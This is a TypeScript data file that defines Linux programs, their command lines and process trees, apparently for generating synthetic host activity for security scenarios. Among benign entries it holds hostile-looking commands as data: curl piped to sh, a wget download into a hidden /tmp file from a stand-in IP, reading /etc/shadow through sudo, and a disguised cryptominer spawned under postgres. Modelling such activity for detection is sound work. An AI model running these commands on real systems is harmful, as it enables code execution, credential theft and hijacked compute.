/** Programs and process trees that Linux stories are made of. */
import type { PersonName } from './linux-vocabulary.ts';

export interface Program {
  readonly path: string;
  readonly package?: { readonly name: string; readonly version: string; readonly release: string };
  readonly args: readonly string[];
  readonly script?: string;
}

const debian = (name: string, version: string, release: string) => ({ name, version, release });

/** The programs of the process trees, each with one command line that people really type. */
export const PROGRAMS = {
  systemd: {
    path: '/usr/lib/systemd/systemd',
    package: debian('systemd', '252.30', '1~deb12u2'),
    args: ['--system', '--deserialize', '31'],
  },
  shim: {
    path: '/usr/bin/containerd-shim-runc-v2',
    package: debian('containerd.io', '1.7.24', '1'),
    args: ['-namespace', 'k8s.io', '-address', '/run/containerd/containerd.sock'],
  },
  sshd: { path: '/usr/sbin/sshd', package: debian('openssh-server', '9.2p1', '2+deb12u3'), args: ['-D', '-R'] },
  cron: { path: '/usr/sbin/cron', package: debian('cron', '3.0pl1', '162'), args: ['-f', '-P'] },
  bash: {
    path: '/usr/bin/bash',
    package: debian('bash', '5.2.15', '2+b7'),
    args: ['-c', 'curl -fsS https://downloads.example.com/install.sh | sh'],
  },
  sh: { path: '/usr/bin/dash', package: debian('dash', '0.5.12', '2'), args: ['-c', 'run-parts --report /etc/cron.hourly'] },
  sudo: { path: '/usr/bin/sudo', package: debian('sudo', '1.9.13p3', '1+deb12u1'), args: ['-u', 'root', 'cat', '/etc/shadow'] },
  curl: {
    path: '/usr/bin/curl',
    package: debian('curl', '7.88.1', '10+deb12u8'),
    args: ['-fsS', '-H', 'Accept: application/octet-stream', '-o', '/tmp/install.sh', 'https://downloads.example.com/install.sh'],
  },
  wget: {
    path: '/usr/bin/wget',
    package: debian('wget', '1.21.3', '1+b2'),
    args: ['-q', '-O', '/tmp/.cache/x', 'http://198.51.100.23/x'],
  },
  cat: { path: '/usr/bin/cat', package: debian('coreutils', '9.1', '1'), args: ['/etc/shadow'] },
  tar: { path: '/usr/bin/tar', package: debian('tar', '1.34', '1.2'), args: ['-czf', '/var/backups/etc.tar.gz', '/etc'] },
  vim: { path: '/usr/bin/vim.basic', package: debian('vim', '9.0.1378', '2'), args: ['/etc/ssh/sshd_config'] },
  nginx: { path: '/usr/sbin/nginx', package: debian('nginx', '1.22.1', '9'), args: ['-g', 'daemon off;'] },
  php: { path: '/usr/sbin/php-fpm8.2', package: debian('php8.2-fpm', '8.2.24', '1~deb12u1'), args: ['--nodaemonize'] },
  java: { path: '/opt/java/openjdk/bin/java', args: ['-Xmx2g', '-jar', '/srv/checkout/checkout.jar', '--server.port=8080'] },
  node: { path: '/usr/local/bin/node', args: ['--enable-source-maps', '/srv/api/server.js'] },
  python: {
    path: '/usr/bin/python3.11',
    package: debian('python3.11', '3.11.2', '6+deb12u4'),
    args: ['/opt/tools/rotate.py', '--all'],
    script: '/opt/tools/rotate.py',
  },
  postgres: {
    path: '/usr/lib/postgresql/15/bin/postgres',
    package: debian('postgresql-15', '15.8', '0+deb12u1'),
    args: ['-D', '/var/lib/postgresql/data'],
  },
  backup: { path: '/usr/local/bin/backup.sh', args: ['--target', 's3://backups.example.com/etc'], script: '/usr/bin/bash' },
  apt: { path: '/usr/bin/apt-get', package: debian('apt', '2.6.1', '1'), args: ['install', '-y', 'nmap'] },
  dpkg: {
    path: '/usr/bin/dpkg',
    package: debian('dpkg', '1.21.22', '1'),
    args: ['--status-fd', '21', '--unpack', '/var/cache/apt/archives/nmap_7.93_amd64.deb'],
  },
  make: { path: '/usr/bin/make', package: debian('make', '4.3', '4.1'), args: ['-C', '/srv/build', 'release'] },
  env: { path: '/usr/bin/env', package: debian('coreutils', '9.1', '1'), args: ['-i', 'PATH=/usr/bin', 'bash'] },
  miner: { path: '/tmp/.X11-unix/kdevtmpfsi', args: ['--donate-level=1', '-o', 'pool.example.net:3333'] },
} as const satisfies Record<string, Program>;
export type ProgramName = keyof typeof PROGRAMS;

export interface Tree {
  /** From pid 1 down to the acting process. */
  readonly programs: readonly ProgramName[];
  readonly owner: PersonName;
  readonly container: boolean;
  readonly session?: 'k8s' | 'ssh';
  readonly tty?: true;
  readonly service: string;
}

export const TREES: readonly Tree[] = [
  { programs: ['systemd', 'shim', 'nginx', 'php', 'bash', 'curl'], owner: 'web', container: true, service: 'storefront' },
  {
    programs: ['systemd', 'shim', 'bash', 'curl'],
    owner: 'root',
    container: true,
    session: 'k8s',
    tty: true,
    service: 'storefront',
  },
  { programs: ['systemd', 'shim', 'java', 'sh', 'wget'], owner: 'app', container: true, service: 'checkout' },
  { programs: ['systemd', 'shim', 'node', 'sh', 'python'], owner: 'app', container: true, service: 'api' },
  {
    programs: ['systemd', 'shim', 'bash', 'apt', 'dpkg'],
    owner: 'root',
    container: true,
    session: 'k8s',
    tty: true,
    service: 'api',
  },
  { programs: ['systemd', 'shim', 'postgres', 'sh', 'miner'], owner: 'postgres', container: true, service: 'orders-db' },
  {
    programs: ['systemd', 'sshd', 'sshd', 'bash', 'sudo', 'cat'],
    owner: 'alice',
    container: false,
    session: 'ssh',
    tty: true,
    service: '',
  },
  {
    programs: ['systemd', 'sshd', 'sshd', 'bash', 'sudo', 'vim'],
    owner: 'bob',
    container: false,
    session: 'ssh',
    tty: true,
    service: '',
  },
  { programs: ['systemd', 'cron', 'cron', 'sh', 'backup', 'tar'], owner: 'root', container: false, service: '' },
  { programs: ['systemd', 'nginx'], owner: 'web', container: false, service: 'proxy' },
  { programs: ['systemd', 'python'], owner: 'nobody', container: false, service: '' },
];

/** What a deep tree has more of. */
export const NESTING: readonly ProgramName[] = ['bash', 'sh', 'make', 'env', 'python', 'bash'];
